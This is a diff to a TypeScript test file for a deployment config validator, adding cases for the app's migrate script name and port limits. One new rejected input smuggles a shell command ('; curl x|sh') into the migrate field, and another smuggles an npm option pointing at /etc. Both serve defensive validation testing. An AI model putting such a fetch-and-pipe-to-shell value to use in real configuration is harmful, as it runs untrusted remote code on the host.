@@ -319,6 +319,8 @@ const HOSTILE: Record<string, Bad> = {
   "a pm2 dist-tag": { over: { "nodehost:app": JSON.stringify({ pm2Version: "latest" }) }, expected: [`nodehost:app.pm2Version: ${PM2}`] },
   "an app port whose next port is PostgreSQL's": { over: { "nodehost:app": JSON.stringify({ port: 5431 }) }, expected: ["nodehost:app.port: must leave 5432 and 6379 free: releases use this port and the next"] },
   "the last port (releases need the next one too)": { over: { "nodehost:app": JSON.stringify({ port: 65535 }) }, expected: ["nodehost:app.port: Too big: expected number to be <=65534"] },
+  "a migrate command instead of a script name": { over: { "nodehost:app": JSON.stringify({ migrate: "prisma migrate deploy; curl x|sh" }) }, expected: ["nodehost:app.migrate: must be an npm script name such as migrate or db:migrate (letters, digits, ':', '.', '_', '-')"] },
+  "a migrate script that is an npm option": { over: { "nodehost:app": JSON.stringify({ migrate: "--prefix=/etc" }) }, expected: ["nodehost:app.migrate: must be an npm script name such as migrate or db:migrate (letters, digits, ':', '.', '_', '-')"] },
   "a pm2 range (node-pm2 would reinstall on every run)": { over: { "nodehost:app": JSON.stringify({ pm2Version: "^6.0" }) }, expected: [`nodehost:app.pm2Version: ${PM2}`] },
   "a Slack channel with a newline": {
     over: { "nodehost:alerts": alerts({ slackChannel: "#ops\n#all" }), "nodehost:slackWebhookUrl": "https://hooks.slack.com/services/T0/B0/x" },
@@ -529,7 +531,7 @@ describe("allowed forms pass", () => {
     expect(problems({ "nodehost:images": JSON.stringify({ postgres: POSTGRES.tag, redis: REDIS.tag, preloadDir: "" }) })).toEqual([]);
   });
 
-  test("app sources, refs, workers and pm2 versions", () => {
+  test("app sources, refs, workers, pm2 versions, migrations and ports", () => {
     const apps = [
       { source: "git", gitUrl: "https://github.com/acme/app.git", gitRef: "v1.2.0" },
       { source: "git", gitUrl: "git@github.com:acme/app.git", gitRef: "release/2026-11" },
@@ -538,6 +540,8 @@ describe("allowed forms pass", () => {
       { worker: "dist/worker.js", pm2Version: "6.0.1" },
       { worker: "worker", pm2Version: "6" },
       { npmRegistry: "https://npm.example.com/repository/npm/" },
+      { migrate: "db:migrate", port: 3000 },
+      { migrate: "migrate", port: 65534 },
     ];
     for (const app of apps) expect([app, problems({ "nodehost:app": JSON.stringify(app) })]).toEqual([app, []]);
   });
